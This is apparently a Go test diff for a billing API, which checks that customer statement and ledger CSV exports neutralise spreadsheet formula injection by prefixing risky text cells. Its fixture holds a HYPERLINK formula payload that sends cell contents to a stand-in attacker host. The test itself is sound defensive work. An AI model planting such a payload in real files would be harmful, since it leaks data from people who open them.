@@ -2,8 +2,12 @@ package api_test
 
 import (
 	"bytes"
+	"context"
+	"encoding/csv"
 	"encoding/json"
 	"net/http"
+	"slices"
+	"strings"
 	"testing"
 	"time"
 
@@ -103,4 +107,72 @@ func TestExportRefusesYearZero(t *testing.T) {
 	if status != http.StatusBadRequest || !bytes.Contains(body, []byte("from")) {
 		t.Errorf("GET /admin/v1/export?from=0000-01-01&to=2026-01-01 = %d %s; want 400 naming from", status, bytes.TrimSpace(body))
 	}
+}
+
+// TestCSVTextCellsCannotRunAsFormulas: memos are free text an operator
+// types ("-10% goodwill", "=invoice 42", text pasted from a ticket). A
+// spreadsheet opening a CSV evaluates a cell that starts with = + - @, tab
+// or carriage return as a formula (CSV/formula injection), so the
+// statement CSV (which the customer downloads from its own portal) and
+// the ledger export prefix such text cells with ', and leave the amounts,
+// negative ones too, as numbers.
+func TestCSVTextCellsCannotRunAsFormulas(t *testing.T) {
+	s := newServer(t)
+	cust, key, secret := s.customer(`{"name":"acme"}`)
+	memo := `=HYPERLINK("http://attacker.example/?"&A1,"click")`
+	at := time.Date(2026, 3, 5, 0, 0, 0, 0, time.UTC)
+	ctx := context.Background()
+	s.write(event(cust, key, "@SUM(A1:A9)", at, usage.Tokens{PromptTokens: 1})) // unpriced: a statement line too
+	if _, err := s.client().AddEntry(ctx, cust, ledger.KindCredit, ledger.EntryInput{Amount: "10", Memo: memo, EffectiveAt: at}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.client().AddEntry(ctx, cust, ledger.KindAdjustment, ledger.EntryInput{Amount: "-1", Memo: "-10% goodwill", EffectiveAt: at}); err != nil {
+		t.Fatal(err)
+	}
+
+	check := func(what string, body []byte, amounts ...string) {
+		t.Helper()
+		recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", what, err)
+		}
+		memoCol, amountCol := slices.Index(recs[0], "memo"), slices.Index(recs[0], "amount")
+		modelCol := slices.Index(recs[0], "model")
+		var memos, amountsSeen []string
+		models := 0
+		for _, r := range recs[1:] {
+			if r[modelCol] == "'@SUM(A1:A9)" {
+				models++
+			}
+			if m := r[memoCol]; m != "" {
+				memos = append(memos, m)
+				amountsSeen = append(amountsSeen, r[amountCol])
+			}
+			for i, c := range r {
+				if i != amountCol && c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
+					t.Errorf("%s: cell %s %q starts with a formula trigger; want it prefixed with '", what, recs[0][i], c)
+				}
+			}
+		}
+		if models != 1 {
+			t.Errorf("%s: %d rows of model '@SUM(A1:A9), want 1", what, models)
+		}
+		slices.Sort(memos)
+		if want := []string{"'-10% goodwill", "'" + memo}; !slices.Equal(memos, want) {
+			t.Errorf("%s: memos %q, want %q", what, memos, want)
+		}
+		slices.Sort(amountsSeen)
+		if !slices.Equal(amountsSeen, amounts) {
+			t.Errorf("%s: amounts of the entries %q, want %q (numbers, not neutralised)", what, amountsSeen, amounts)
+		}
+	}
+	// The customer's own statement CSV, with its key.
+	_, b, err := send("GET", s.llm+"/v1/statements/2026-03?format=csv", secret, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	check("customer statement CSV", b, "1", "10")
+	// The finance export.
+	b = s.adm("GET", "/admin/v1/export?from=2026-03-01&to=2026-04-01", "", http.StatusOK, nil)
+	check("ledger export CSV", b, "-1", "10")
 }
